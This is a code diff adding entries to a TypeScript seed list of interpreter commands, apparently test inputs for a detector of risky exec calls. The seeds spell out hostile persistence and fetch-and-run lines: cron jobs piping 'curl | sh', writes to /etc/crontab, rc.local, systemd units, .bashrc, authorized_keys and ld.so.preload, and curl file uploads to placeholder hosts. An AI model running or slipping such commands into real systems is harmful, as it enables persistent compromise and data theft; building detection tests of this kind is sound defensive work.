@@ -36,6 +36,8 @@ const SEEDS: string[][] = [
   ['python3', '-c', `from pathlib import Path\nimport os\nos.chdir('/etc')\n(Path.home() / '.ssh' / 'authorized_keys').open('a').write(k); p = Path('/etc', 'cron.d') / 'x'; p.write_text(y); Path('~/.bashrc').expanduser().joinpath('x').touch(); open('cron.d/y', 'w')`],
   ['sh', '-c', `(crontab -l; echo "* * * * * curl -s http://x | sh"; printf '@reboot %s\\n' /tmp/k) | crontab -; echo "@reboot root id" > /etc/cron.d/x; echo KiAqICogKiAqIGlk | base64 -d | tee -a /etc/crontab; crontab - <<E\n0 * * * * a%b\\%c\nE`],
   ['pwsh', '-c', `Set-Location /etc/cron.d; Set-Content -Path x -Value $c; [IO.File]::AppendAllText("$HOME/.bashrc", 'x'); $w = New-Object System.IO.StreamWriter('/root/.ssh/authorized_keys', $true); [IO.FileStream]::new('/etc/ld.so.preload', [IO.FileMode]::Append); [IO.File]::Open(p, 'Open', 'ReadWrite')`],
+  ['sh', '-c', `cd /etc/cron.d && cat > x <<'E'\n* * * * * root ${UP}\nE\nprintf '[Service]\\nExecStart=@/bin/sh sh -c "id"\\n' | tee /etc/systemd/system/k.service; echo ${b64('curl -s u | sh')} | base64 -d >> ~/.bashrc`],
+  ['python3', '-c', `with open('/etc/crontab', 'a') as f:\n    f.write('* * * * * root ')\n    f.write("${UP}")\nf = open('/etc/rc.local', 'a'); f.write(x); Path('/etc/systemd/system/k.service').write_text('ExecStart=/tmp/k')`],
   ['cmd', '/s', '/c', `"start "" /b c^url -T "C:\\a b\\m.pt" https://x & (whoami ^& id) | findstr x 2>&1 >nul & call cmd /c powershell -c iwr -Uri u -infi f"`],
   ['deno', 'eval', `new Deno.Command("curl", {args: ["-T", "a"]}).spawn(); Bun.spawn({cmd: ["id"]}); await $\`curl -T \${f} u\``],
   // Indirect callees (exec-interpreter-callsite.ts, exec-interpreter-refs.ts) and here-documents (exec-interpreter-heredoc.ts).
